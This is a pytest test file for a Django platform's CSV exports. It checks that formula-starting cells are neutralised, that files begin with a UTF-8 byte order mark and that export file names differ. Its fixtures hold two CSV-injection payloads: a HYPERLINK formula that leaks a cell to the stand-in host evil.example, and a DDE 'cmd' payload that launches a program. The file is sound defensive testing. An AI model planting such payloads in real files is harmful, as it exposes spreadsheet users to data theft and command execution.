"""Every CSV of the platform goes through core.csv: formulas neutralised, UTF-8 with a BOM declared as
such, a file name of its own."""

import csv
import io

import pytest

from core.csv import csv_bytes, safe_cell
from tests.factories import PartnerFactory, PersonFactory, RegistrationFactory, SegmentFactory, TargetFactory

pytestmark = pytest.mark.django_db

PARTNER = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CONTACT = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith("\ufeff".encode()), "a byte order mark, so spreadsheets read UTF-8"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_starts_a_formula_is_quoted(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-3, 2.5, "Île-de-France", "a-b", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == ("" if value is None else value)


def test_the_bytes_start_with_a_bom_and_are_utf8():
    assert csv_bytes(["name"], [["Île-de-France"]]) == "\ufeffname\r\nÎle-de-France\r\n".encode()


@pytest.fixture
def hostile(cast, event):
    partner = PartnerFactory(name=PARTNER, country="FR")
    contact = PersonFactory(partner=partner, name=CONTACT)
    event.organisers.add(cast.partner_a)
    RegistrationFactory(event=event, person=contact)
    SegmentFactory(name=PARTNER)
    return partner


def test_the_api_csv_neutralises_a_hostile_partner_name(anonymous, hostile):
    rows = read(anonymous.get("/api/v1/partners/", {"format": "csv"}))
    no_formula(rows)
    assert ["'" + PARTNER] in [[cell] for row in rows for cell in row if "HYPERLINK" in cell]


def test_an_api_detail_csv_neutralises_it_too(anonymous, hostile):
    response = anonymous.get(f"/api/v1/partners/{hostile.slug}/", {"format": "csv"})
    rows = read(response)
    no_formula(rows)
    assert response["Content-Disposition"] == f'attachment; filename="ev4scc-partners-{hostile.slug}.csv"'


def test_the_attendees_csv_neutralises_a_hostile_contact(cast, event, hostile):
    client = cast.client("rep_a")
    response = client.get(f"/events/{event.slug}/attendees.csv")
    rows = read(response)
    no_formula(rows)
    assert ["'" + CONTACT, "'" + PARTNER] in [[row[0], row[2]] for row in rows]
    assert (
        response["Content-Disposition"] == f'attachment; filename="ev4scc-event-{event.slug}-attendees.csv"'
    )


@pytest.mark.parametrize("name", ["collaborations"])
def test_the_breakdowns_neutralise_a_hostile_segment_name(cast, hostile, name):
    rows = read(cast.client("coordinator").get(f"/dashboard/breakdowns/{name}.csv", {"as_of": "2018-01-01"}))
    no_formula(rows)
    assert "'" + PARTNER in [row[0] for row in rows]


def test_distinct_csvs_have_distinct_file_names(cast, anonymous):
    TargetFactory()
    coordinator = cast.client("coordinator")
    names = [
        coordinator.get("/dashboard/cities.csv", {"as_of": "2017-12-31"})["Content-Disposition"],
        coordinator.get("/dashboard/breakdowns/cities.csv", {"as_of": "2017-12-31"})["Content-Disposition"],
        anonymous.get("/api/v1/news/", {"format": "csv"})["Content-Disposition"],
        anonymous.get("/api/v1/targets/", {"format": "csv", "as_of": "2017-12-31"})["Content-Disposition"],
    ]
    assert names == [
        'attachment; filename="ev4scc-kpi-cities-2017-12-31.csv"',
        'attachment; filename="ev4scc-breakdown-cities-2017-12-31.csv"',
        'attachment; filename="ev4scc-news.csv"',
        'attachment; filename="ev4scc-targets-2017-12-31.csv"',
    ]
